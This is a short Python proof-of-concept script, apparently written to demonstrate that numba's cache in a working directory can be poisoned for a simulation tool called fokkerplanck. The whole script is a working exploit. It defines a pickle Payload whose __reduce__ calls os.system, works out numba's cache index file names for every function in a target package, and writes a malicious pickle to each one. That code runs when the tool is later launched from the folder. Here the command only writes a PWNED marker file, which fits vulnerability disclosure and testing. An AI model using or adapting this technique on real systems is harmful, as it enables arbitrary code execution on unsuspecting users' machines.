"""What a stranger puts beside a case who guesses where the package is installed (harmless payload).

usage, in this folder: python make_cache.py FOLDER_OF_THE_PACKAGE; then fokkerplanck run case.toml
numba reads .numba_config.yaml of the working directory, and its index files are pickles.
"""

import glob
import hashlib
import os
import pickle
import re
import sys


class Payload:
    def __reduce__(self):
        return (os.system, ("echo code of the folder ran > PWNED",))


python = f"py{sys.version_info[0]}{sys.version_info[1]}"
for file in glob.glob(os.path.join(sys.argv[1], "*", "**", "*.py"), recursive=True):
    folder = os.path.dirname(os.path.abspath(file))
    digest = hashlib.sha1(folder.encode()).hexdigest()
    place = os.path.join("cache", f"{os.path.basename(folder)}_{digest}")
    os.makedirs(place, exist_ok=True)
    with open(file) as text:
        lines = text.read().splitlines()
    for number, line in enumerate(lines, 1):
        if found := re.match(r"def (\w+)\(", line):
            first = number
            while first > 1 and lines[first - 2].startswith(("@", " ", ")")):
                first -= 1
                if lines[first - 1].startswith("@"):
                    break
            stem = os.path.splitext(os.path.basename(file))[0]
            for at in {number, first}:
                with open(os.path.join(place, f"{stem}.{found[1]}-{at}.{python}.nbi"), "wb") as out:
                    pickle.dump(Payload(), out)
